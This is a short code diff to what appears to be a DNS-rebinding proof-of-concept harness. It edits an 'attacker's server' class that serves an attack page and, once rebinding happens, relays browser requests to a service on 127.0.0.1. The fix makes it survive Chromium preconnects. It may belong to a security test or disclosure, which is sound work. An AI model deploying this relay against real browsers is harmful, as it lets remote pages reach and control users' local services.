@@ -48,7 +48,8 @@ Promise.all(["/ui/panels/calls", "/status", "/ui"].map(
 
 class RebindingName:
     """The attacker's server for ``rebind.example`` on ``ATTACKER``:``port``: it answers
-    its page until :meth:`rebind`, then relays every new connection to the D."""
+    its page to requests sent before :meth:`rebind`, then relays every connection whose
+    request comes after it to the D."""
 
     def __init__(self, port: int, target: int) -> None:
         self.target = target
@@ -72,13 +73,16 @@ class RebindingName:
 
     def _serve(self, client: socket.socket) -> None:
         with client:
+            # Decided by when the request arrives, not when the connection opened: Chromium
+            # may open a connection ahead of its request (a preconnect) before the rebinding.
+            first = client.recv(65536)
             if not self.rebound.is_set():
-                client.recv(65536)
                 head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                 client.sendall(head + b"Content-Length: %d\r\n\r\n" % len(ATTACK_PAGE))
                 client.sendall(ATTACK_PAGE)
                 return
             with socket.create_connection(("127.0.0.1", self.target)) as d:
+                d.sendall(first)
                 back = threading.Thread(target=_pipe, args=(d, client), daemon=True)
                 back.start()
                 _pipe(client, d)
